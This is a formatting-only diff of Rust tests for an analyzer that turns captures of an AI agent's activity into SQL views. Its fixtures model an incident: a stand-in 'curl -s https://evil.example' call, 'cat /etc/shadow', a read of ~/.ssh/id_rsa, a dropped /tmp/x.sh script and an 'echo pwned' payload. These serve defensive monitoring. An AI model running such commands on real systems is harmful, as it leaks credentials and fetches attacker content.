@@ -13,7 +13,11 @@ async fn raw_tables_have_every_row_and_a_capture_column() {
     incident(dir.path(), "inc").unwrap();
     let s = open(&[dir.path()]).await;
     for (table, n) in INCIDENT_ROWS {
-        assert_eq!(count(&s, &format!("SELECT count(*) FROM {table}")).await, *n as u64, "{table}");
+        assert_eq!(
+            count(&s, &format!("SELECT count(*) FROM {table}")).await,
+            *n as u64,
+            "{table}"
+        );
         let caps = rows(&s, &format!("SELECT DISTINCT capture FROM {table}")).await;
         assert_eq!(caps, vec![strs(&["inc"])], "{table}");
     }
@@ -42,7 +46,21 @@ async fn processes_view_has_one_row_per_process() {
          exec_count, snapshot, start_ns, end_ns, exit_code, exit_signal FROM processes",
     )
     .await;
-    let row = |key: u64, pid, ppid, parent: u64, comm, file, argv, trunc, cwd, execs, snap, start, end, code, sig| {
+    let row = |key: u64,
+               pid,
+               ppid,
+               parent: u64,
+               comm,
+               file,
+               argv,
+               trunc,
+               cwd,
+               execs,
+               snap,
+               start,
+               end,
+               code,
+               sig| {
         vec![
             key.to_string(),
             String::from(pid),
@@ -62,16 +80,110 @@ async fn processes_view_has_one_row_per_process() {
         ]
     };
     let want = vec![
-        row(k.bash, "100", "1", k.init, "bash", "/usr/bin/bash", "bash", "false", "/home/u", "0", "true", "50000000000", "NULL", "NULL", "NULL"),
-        row(k.python, "200", "100", k.bash, "python3", "/usr/bin/python3", "python3 agent.py --resume", "true", "/home/u/agent", "2", "false", "101000000000", "120000000000", "3", "NULL"),
-        row(k.sh, "300", "200", k.python, "bash", "/usr/bin/bash", "bash /tmp/x.sh", "false", "NULL", "2", "false", "102000000000", "110000000000", "0", "NULL"),
-        row(k.curl, "400", "300", k.sh, "curl", "/usr/bin/curl", "curl -s https://evil.example", "false", "NULL", "1", "false", "103000000000", "104000000000", "0", "NULL"),
-        row(k.cat, "400", "200", k.python, "cat", "/usr/bin/cat", "cat /etc/shadow", "false", "NULL", "1", "false", "105000000000", "106000000000", "NULL", "9"),
+        row(
+            k.bash,
+            "100",
+            "1",
+            k.init,
+            "bash",
+            "/usr/bin/bash",
+            "bash",
+            "false",
+            "/home/u",
+            "0",
+            "true",
+            "50000000000",
+            "NULL",
+            "NULL",
+            "NULL",
+        ),
+        row(
+            k.python,
+            "200",
+            "100",
+            k.bash,
+            "python3",
+            "/usr/bin/python3",
+            "python3 agent.py --resume",
+            "true",
+            "/home/u/agent",
+            "2",
+            "false",
+            "101000000000",
+            "120000000000",
+            "3",
+            "NULL",
+        ),
+        row(
+            k.sh,
+            "300",
+            "200",
+            k.python,
+            "bash",
+            "/usr/bin/bash",
+            "bash /tmp/x.sh",
+            "false",
+            "NULL",
+            "2",
+            "false",
+            "102000000000",
+            "110000000000",
+            "0",
+            "NULL",
+        ),
+        row(
+            k.curl,
+            "400",
+            "300",
+            k.sh,
+            "curl",
+            "/usr/bin/curl",
+            "curl -s https://evil.example",
+            "false",
+            "NULL",
+            "1",
+            "false",
+            "103000000000",
+            "104000000000",
+            "0",
+            "NULL",
+        ),
+        row(
+            k.cat,
+            "400",
+            "200",
+            k.python,
+            "cat",
+            "/usr/bin/cat",
+            "cat /etc/shadow",
+            "false",
+            "NULL",
+            "1",
+            "false",
+            "105000000000",
+            "106000000000",
+            "NULL",
+            "9",
+        ),
     ];
     assert_eq!(got, want);
     // Wall-clock times use the manifest anchor (boot 100 s = 2023-11-14T22:13:20Z).
-    let t = rows(&s, &format!("SELECT start_time, end_time, duration_ms FROM processes WHERE proc_key = {}", k.python)).await;
-    assert_eq!(t, vec![strs(&["2023-11-14T22:13:21Z", "2023-11-14T22:13:40Z", "19000.0"])]);
+    let t = rows(
+        &s,
+        &format!(
+            "SELECT start_time, end_time, duration_ms FROM processes WHERE proc_key = {}",
+            k.python
+        ),
+    )
+    .await;
+    assert_eq!(
+        t,
+        vec![strs(&[
+            "2023-11-14T22:13:21Z",
+            "2023-11-14T22:13:40Z",
+            "19000.0"
+        ])]
+    );
 }
 
 #[tokio::test]
@@ -95,27 +207,95 @@ async fn process_tree_follows_keys_not_pids() {
             "3 curl bash > python3 > bash > curl"
         ]
     );
-    let sh = rows(&s, &format!("SELECT depth, comm FROM process_tree WHERE root_key = {} ORDER BY depth", k.sh)).await;
+    let sh = rows(
+        &s,
+        &format!(
+            "SELECT depth, comm FROM process_tree WHERE root_key = {} ORDER BY depth",
+            k.sh
+        ),
+    )
+    .await;
     assert_eq!(names(sh), ["0 bash", "1 curl"]);
     // Ancestors of curl: itself, sh, python, bash (init is never seen).
-    let up = rows(&s, &format!("SELECT depth, root_pid FROM process_tree WHERE proc_key = {} ORDER BY depth", k.curl)).await;
+    let up = rows(
+        &s,
+        &format!(
+            "SELECT depth, root_pid FROM process_tree WHERE proc_key = {} ORDER BY depth",
+            k.curl
+        ),
+    )
+    .await;
     assert_eq!(names(up), ["0 400", "1 300", "2 200", "3 100"]);
-    let up = rows(&s, &format!("SELECT depth, root_pid FROM process_tree WHERE proc_key = {} ORDER BY depth", k.cat)).await;
+    let up = rows(
+        &s,
+        &format!(
+            "SELECT depth, root_pid FROM process_tree WHERE proc_key = {} ORDER BY depth",
+            k.cat
+        ),
+    )
+    .await;
     assert_eq!(names(up), ["0 400", "1 200", "2 100"]);
     // Closure size: sum over processes of (depth + 1) = 1 + 2 + 3 + 4 + 3.
     assert_eq!(count(&s, "SELECT count(*) FROM process_tree").await, 13);
 
     // The table functions agree with the view.
-    let d = rows(&s, &format!("SELECT depth, pid, comm, root_key = {} FROM descendants({})", k.bash, k.bash)).await;
-    assert_eq!(names(d), ["0 100 bash true", "1 200 python3 true", "2 300 bash true", "2 400 cat true", "3 400 curl true"]);
-    let a = rows(&s, &format!("SELECT depth, pid, array_to_string(argv, ' ') FROM ancestors({})", k.curl)).await;
-    assert_eq!(names(a), ["0 400 curl -s https://evil.example", "1 300 bash /tmp/x.sh", "2 200 python3 agent.py --resume", "3 100 bash"]);
-    let d = rows(&s, &format!("SELECT count(*) FROM descendants({}, 'inc')", k.sh)).await;
+    let d = rows(
+        &s,
+        &format!(
+            "SELECT depth, pid, comm, root_key = {} FROM descendants({})",
+            k.bash, k.bash
+        ),
+    )
+    .await;
+    assert_eq!(
+        names(d),
+        [
+            "0 100 bash true",
+            "1 200 python3 true",
+            "2 300 bash true",
+            "2 400 cat true",
+            "3 400 curl true"
+        ]
+    );
+    let a = rows(
+        &s,
+        &format!(
+            "SELECT depth, pid, array_to_string(argv, ' ') FROM ancestors({})",
+            k.curl
+        ),
+    )
+    .await;
+    assert_eq!(
+        names(a),
+        [
+            "0 400 curl -s https://evil.example",
+            "1 300 bash /tmp/x.sh",
+            "2 200 python3 agent.py --resume",
+            "3 100 bash"
+        ]
+    );
+    let d = rows(
+        &s,
+        &format!("SELECT count(*) FROM descendants({}, 'inc')", k.sh),
+    )
+    .await;
     assert_eq!(d, vec![strs(&["2"])]);
-    assert_eq!(rows(&s, &format!("SELECT count(*) FROM descendants({}, 'other')", k.sh)).await, vec![strs(&["0"])]);
-    assert_eq!(rows(&s, "SELECT count(*) FROM descendants(12345)").await, vec![strs(&["0"])]);
+    assert_eq!(
+        rows(
+            &s,
+            &format!("SELECT count(*) FROM descendants({}, 'other')", k.sh)
+        )
+        .await,
+        vec![strs(&["0"])]
+    );
+    assert_eq!(
+        rows(&s, "SELECT count(*) FROM descendants(12345)").await,
+        vec![strs(&["0"])]
+    );
     // Bad arguments are errors, not panics.
-    assert!(try_rows(&s, "SELECT * FROM descendants('x')").await.is_err());
+    assert!(try_rows(&s, "SELECT * FROM descendants('x')")
+        .await
+        .is_err());
     assert!(try_rows(&s, "SELECT * FROM ancestors()").await.is_err());
     assert!(try_rows(&s, "SELECT * FROM ancestors(-1)").await.is_err());
 }
@@ -127,23 +307,87 @@ async fn file_and_net_activity_spell_out_numbers() {
     let s = open(&[dir.path()]).await;
     let got = rows(&s, "SELECT pid, op, path, path2, flags_text, mode_text, ok, error, mutating FROM file_activity").await;
     let want = vec![
-        strs(&["200", "open", "/home/u/.ssh/id_rsa", "NULL", "O_RDONLY|O_CLOEXEC", "NULL", "true", "NULL", "false"]),
-        strs(&["300", "open", "/tmp/x.sh", "NULL", "O_WRONLY|O_CREAT|O_TRUNC", "0644", "true", "NULL", "true"]),
-        strs(&["300", "chmod", "/tmp/x.sh", "NULL", "NULL", "0755", "true", "NULL", "true"]),
-        strs(&["300", "rename", "/tmp/a", "/tmp/b", "NULL", "NULL", "true", "NULL", "true"]),
-        strs(&["400", "open", "/etc/shadow", "NULL", "O_RDONLY", "NULL", "false", "EACCES", "false"]),
-        strs(&["400", "unlink", "/tmp/b", "NULL", "NULL", "NULL", "false", "ENOENT", "true"]),
+        strs(&[
+            "200",
+            "open",
+            "/home/u/.ssh/id_rsa",
+            "NULL",
+            "O_RDONLY|O_CLOEXEC",
+            "NULL",
+            "true",
+            "NULL",
+            "false",
+        ]),
+        strs(&[
+            "300",
+            "open",
+            "/tmp/x.sh",
+            "NULL",
+            "O_WRONLY|O_CREAT|O_TRUNC",
+            "0644",
+            "true",
+            "NULL",
+            "true",
+        ]),
+        strs(&[
+            "300",
+            "chmod",
+            "/tmp/x.sh",
+            "NULL",
+            "NULL",
+            "0755",
+            "true",
+            "NULL",
+            "true",
+        ]),
+        strs(&[
+            "300", "rename", "/tmp/a", "/tmp/b", "NULL", "NULL", "true", "NULL", "true",
+        ]),
+        strs(&[
+            "400",
+            "open",
+            "/etc/shadow",
+            "NULL",
+            "O_RDONLY",
+            "NULL",
+            "false",
+            "EACCES",
+            "false",
+        ]),
+        strs(&[
+            "400", "unlink", "/tmp/b", "NULL", "NULL", "NULL", "false", "ENOENT", "true",
+        ]),
     ];
     assert_eq!(got, want);
     let t = rows(&s, "SELECT time FROM file_activity LIMIT 1").await;
     assert_eq!(t, vec![strs(&["2023-11-14T22:13:21.500Z"])]);
 
-    let got = rows(&s, "SELECT pid, op, family, remote, local, ok, error FROM net_activity").await;
+    let got = rows(
+        &s,
+        "SELECT pid, op, family, remote, local, ok, error FROM net_activity",
+    )
+    .await;
     assert_eq!(
         got,
         vec![
-            strs(&["200", "connect", "unix", "/run/dbus", "NULL", "true", "NULL"]),
-            strs(&["400", "connect", "inet", "93.184.216.34:443", "10.0.0.2:40000", "true", "EINPROGRESS"]),
+            strs(&[
+                "200",
+                "connect",
+                "unix",
+                "/run/dbus",
+                "NULL",
+                "true",
+                "NULL"
+            ]),
+            strs(&[
+                "400",
+                "connect",
+                "inet",
+                "93.184.216.34:443",
+                "10.0.0.2:40000",
+                "true",
+                "EINPROGRESS"
+            ]),
         ]
     );
 }
@@ -157,8 +401,14 @@ async fn timeline_orders_everything_with_summaries() {
     // 15 process + 6 file + 2 net + 2 TLS events + 2 TLS calls (3 chunks).
     assert_eq!(got.len(), 27);
     let ts: Vec<u64> = got.iter().map(|r| r[0].parse().unwrap()).collect();
-    assert!(ts.windows(2).all(|w| w[0] <= w[1]), "not in time order: {ts:?}");
-    let lines: Vec<String> = got.iter().map(|r| format!("{} {} {}: {}", r[1], r[2], r[3], r[4])).collect();
+    assert!(
+        ts.windows(2).all(|w| w[0] <= w[1]),
+        "not in time order: {ts:?}"
+    );
+    let lines: Vec<String> = got
+        .iter()
+        .map(|r| format!("{} {} {}: {}", r[1], r[2], r[3], r[4]))
+        .collect();
     let want = [
         "100 process snapshot: already running: bash",
         "200 process fork: started by pid 100",
@@ -190,7 +440,11 @@ async fn timeline_orders_everything_with_summaries() {
     ];
     assert_eq!(lines, want);
     // The payload itself stays reachable, with invalid UTF-8 made visible.
-    let data = rows(&s, "SELECT bytes_text(data) FROM tls_chunks WHERE chunk_index = 1").await;
+    let data = rows(
+        &s,
+        "SELECT bytes_text(data) FROM tls_chunks WHERE chunk_index = 1",
+    )
+    .await;
     assert_eq!(data, vec![strs(&["echo pwned \\xff\n"])]);
 }
 
@@ -202,7 +456,13 @@ async fn views_can_be_listed_and_described() {
         open(&[dir.path()]).await
     };
     let names: Vec<&str> = s.views.iter().map(|v| v.name.as_str()).collect();
-    for v in ["processes", "process_tree", "file_activity", "net_activity", "timeline"] {
+    for v in [
+        "processes",
+        "process_tree",
+        "file_activity",
+        "net_activity",
+        "timeline",
+    ] {
         assert!(names.contains(&v));
     }
     // Views are real DataFusion views: visible in information_schema.
@@ -218,22 +478,95 @@ async fn processes_view_handles_partial_lifecycles() {
     let dir = tempfile::tempdir().unwrap();
     let orig_parent = proc_key(50, 60 * SEC);
     let init = proc_key(1, 0);
-    let (exec_only, fork_only, exit_only, snap_exec) =
-        (proc_key(70, 101 * SEC), proc_key(71, 102 * SEC), proc_key(72, 90 * SEC), proc_key(73, 80 * SEC));
+    let (exec_only, fork_only, exit_only, snap_exec) = (
+        proc_key(70, 101 * SEC),
+        proc_key(71, 102 * SEC),
+        proc_key(72, 90 * SEC),
+        proc_key(73, 80 * SEC),
+    );
     write_capture(dir.path(), "edge", ANCHOR, |sink| {
         let mut b = agentsight_analyzer::capture::rows::RowBuffers::default();
-        let s = |t: u64, pid: i32, key: u64, comm: &'static str| Subject { ts_ns: t * SEC, pid, tid: pid, proc_key: key, comm, uid: 0 };
+        let s = |t: u64, pid: i32, key: u64, comm: &'static str| Subject {
+            ts_ns: t * SEC,
+            pid,
+            tid: pid,
+            proc_key: key,
+            comm,
+            uid: 0,
+        };
         // Seen only from its execs (comm filter); reparented to init before the second.
-        b.process.push(&ProcessRow { kind: "exec", ppid: Some(50), parent_key: Some(orig_parent), filename: Some("/bin/a"), argv: Some(vec!["a"]), ..ProcessRow { subject: s(102, 70, exec_only, "a"), ..Default::default() } });
-        b.process.push(&ProcessRow { kind: "exec", ppid: Some(1), parent_key: Some(init), filename: Some("/bin/b"), argv: Some(vec![]), ..ProcessRow { subject: s(103, 70, exec_only, "b"), ..Default::default() } });
+        b.process.push(&ProcessRow {
+            kind: "exec",
+            ppid: Some(50),
+            parent_key: Some(orig_parent),
+            filename: Some("/bin/a"),
+            argv: Some(vec!["a"]),
+            ..ProcessRow {
+                subject: s(102, 70, exec_only, "a"),
+                ..Default::default()
+            }
+        });
+        b.process.push(&ProcessRow {
+            kind: "exec",
+            ppid: Some(1),
+            parent_key: Some(init),
+            filename: Some("/bin/b"),
+            argv: Some(vec![]),
+            ..ProcessRow {
+                subject: s(103, 70, exec_only, "b"),
+                ..Default::default()
+            }
+        });
         // Forked, never exec'd, killed.
-        b.process.push(&ProcessRow { kind: "fork", ppid: Some(50), parent_key: Some(orig_parent), ..ProcessRow { subject: s(102, 71, fork_only, "bash"), ..Default::default() } });
-        b.process.push(&ProcessRow { kind: "exit", exit_signal: Some(15), ..ProcessRow { subject: s(104, 71, fork_only, "worker"), ..Default::default() } });
+        b.process.push(&ProcessRow {
+            kind: "fork",
+            ppid: Some(50),
+            parent_key: Some(orig_parent),
+            ..ProcessRow {
+                subject: s(102, 71, fork_only, "bash"),
+                ..Default::default()
+            }
+        });
+        b.process.push(&ProcessRow {
+            kind: "exit",
+            exit_signal: Some(15),
+            ..ProcessRow {
+                subject: s(104, 71, fork_only, "worker"),
+                ..Default::default()
+            }
+        });
         // Only its exit was seen.
-        b.process.push(&ProcessRow { kind: "exit", exit_code: Some(1), ..ProcessRow { subject: s(105, 72, exit_only, "late"), ..Default::default() } });
+        b.process.push(&ProcessRow {
+            kind: "exit",
+            exit_code: Some(1),
+            ..ProcessRow {
+                subject: s(105, 72, exit_only, "late"),
+                ..Default::default()
+            }
+        });
         // Running at start, then exec'd.
-        b.process.push(&ProcessRow { kind: "snapshot", ppid: Some(1), parent_key: Some(init), filename: Some("/bin/sh"), argv: Some(vec!["sh"]), ..ProcessRow { subject: s(100, 73, snap_exec, "sh"), ..Default::default() } });
-        b.process.push(&ProcessRow { kind: "exec", ppid: Some(1), parent_key: Some(init), filename: Some("/bin/ls"), argv: Some(vec!["ls", ""]), ..ProcessRow { subject: s(101, 73, snap_exec, "ls"), ..Default::default() } });
+        b.process.push(&ProcessRow {
+            kind: "snapshot",
+            ppid: Some(1),
+            parent_key: Some(init),
+            filename: Some("/bin/sh"),
+            argv: Some(vec!["sh"]),
+            ..ProcessRow {
+                subject: s(100, 73, snap_exec, "sh"),
+                ..Default::default()
+            }
+        });
+        b.process.push(&ProcessRow {
+            kind: "exec",
+            ppid: Some(1),
+            parent_key: Some(init),
+            filename: Some("/bin/ls"),
+            argv: Some(vec!["ls", ""]),
+            ..ProcessRow {
+                subject: s(101, 73, snap_exec, "ls"),
+                ..Default::default()
+            }
+        });
         sink(&mut b)
     })
     .unwrap();
@@ -243,10 +576,62 @@ async fn processes_view_handles_partial_lifecycles() {
     assert_eq!(
         got,
         vec![
-            vec!["70".into(), "50".into(), k(orig_parent), "b".into(), "/bin/b".into(), "[]".into(), "2".into(), "false".into(), "101000000000".into(), "NULL".into(), "NULL".into(), "NULL".into()],
-            vec!["71".into(), "50".into(), k(orig_parent), "bash".into(), "NULL".into(), "NULL".into(), "0".into(), "false".into(), "102000000000".into(), "104000000000".into(), "NULL".into(), "15".into()],
-            vec!["72".into(), "NULL".into(), "NULL".into(), "late".into(), "NULL".into(), "NULL".into(), "0".into(), "false".into(), "90000000000".into(), "105000000000".into(), "1".into(), "NULL".into()],
-            vec!["73".into(), "1".into(), k(init), "ls".into(), "/bin/ls".into(), "[ls, ]".into(), "1".into(), "true".into(), "80000000000".into(), "NULL".into(), "NULL".into(), "NULL".into()],
+            vec![
+                "70".into(),
+                "50".into(),
+                k(orig_parent),
+                "b".into(),
+                "/bin/b".into(),
+                "[]".into(),
+                "2".into(),
+                "false".into(),
+                "101000000000".into(),
+                "NULL".into(),
+                "NULL".into(),
+                "NULL".into()
+            ],
+            vec![
+                "71".into(),
+                "50".into(),
+                k(orig_parent),
+                "bash".into(),
+                "NULL".into(),
+                "NULL".into(),
+                "0".into(),
+                "false".into(),
+                "102000000000".into(),
+                "104000000000".into(),
+                "NULL".into(),
+                "15".into()
+            ],
+            vec![
+                "72".into(),
+                "NULL".into(),
+                "NULL".into(),
+                "late".into(),
+                "NULL".into(),
+                "NULL".into(),
+                "0".into(),
+                "false".into(),
+                "90000000000".into(),
+                "105000000000".into(),
+                "1".into(),
+                "NULL".into()
+            ],
+            vec![
+                "73".into(),
+                "1".into(),
+                k(init),
+                "ls".into(),
+                "/bin/ls".into(),
+                "[ls, ]".into(),
+                "1".into(),
+                "true".into(),
+                "80000000000".into(),
+                "NULL".into(),
+                "NULL".into(),
+                "NULL".into()
+            ],
         ]
     );
 }
@@ -255,26 +640,60 @@ async fn processes_view_handles_partial_lifecycles() {
 async fn recursive_view_and_table_functions_agree_on_a_generated_tree() {
     use agentsight_analyzer::fixtures::{synthetic, synthetic_root, SyntheticSpec};
     let dir = tempfile::tempdir().unwrap();
-    let spec = SyntheticSpec { processes: 2500, files_per_process: 1, ..Default::default() };
+    let spec = SyntheticSpec {
+        processes: 2500,
+        files_per_process: 1,
+        ..Default::default()
+    };
     synthetic(dir.path(), spec, |_| {}).unwrap();
     let s = open(&[dir.path()]).await;
     assert_eq!(count(&s, "SELECT count(*) FROM processes").await, 2500);
     let root = synthetic_root();
-    assert_eq!(count(&s, &format!("SELECT count(*) FROM descendants({root})")).await, 2500);
+    assert_eq!(
+        count(&s, &format!("SELECT count(*) FROM descendants({root})")).await,
+        2500
+    );
     // Every agent session (a child of the root) has the same subtree both ways.
-    let sessions = rows(&s, &format!("SELECT proc_key FROM processes WHERE parent_key = {root} ORDER BY proc_key")).await;
+    let sessions = rows(
+        &s,
+        &format!("SELECT proc_key FROM processes WHERE parent_key = {root} ORDER BY proc_key"),
+    )
+    .await;
     assert_eq!(sessions.len(), 3);
     for r in sessions {
         let k = &r[0];
-        let view = rows(&s, &format!("SELECT proc_key, depth FROM process_tree WHERE root_key = {k} ORDER BY proc_key")).await;
-        let func = rows(&s, &format!("SELECT proc_key, CAST(depth AS BIGINT) FROM descendants({k}) ORDER BY proc_key")).await;
+        let view = rows(
+            &s,
+            &format!(
+                "SELECT proc_key, depth FROM process_tree WHERE root_key = {k} ORDER BY proc_key"
+            ),
+        )
+        .await;
+        let func = rows(
+            &s,
+            &format!(
+                "SELECT proc_key, CAST(depth AS BIGINT) FROM descendants({k}) ORDER BY proc_key"
+            ),
+        )
+        .await;
         assert!(view.len() > 100, "session {k} has {} processes", view.len());
         assert_eq!(view, func, "session {k}");
         let deepest = count(&s, &format!("SELECT max(depth) FROM descendants({k})")).await;
         assert!((2..=5).contains(&deepest), "{deepest}");
     }
     // Ancestors of the last process end at the root.
-    let last = rows(&s, "SELECT proc_key FROM processes ORDER BY proc_key DESC LIMIT 1").await;
-    let up = rows(&s, &format!("SELECT proc_key FROM ancestors({}) ORDER BY depth DESC LIMIT 1", last[0][0])).await;
+    let last = rows(
+        &s,
+        "SELECT proc_key FROM processes ORDER BY proc_key DESC LIMIT 1",
+    )
+    .await;
+    let up = rows(
+        &s,
+        &format!(
+            "SELECT proc_key FROM ancestors({}) ORDER BY depth DESC LIMIT 1",
+            last[0][0]
+        ),
+    )
+    .await;
     assert_eq!(up[0][0], root.to_string());
 }
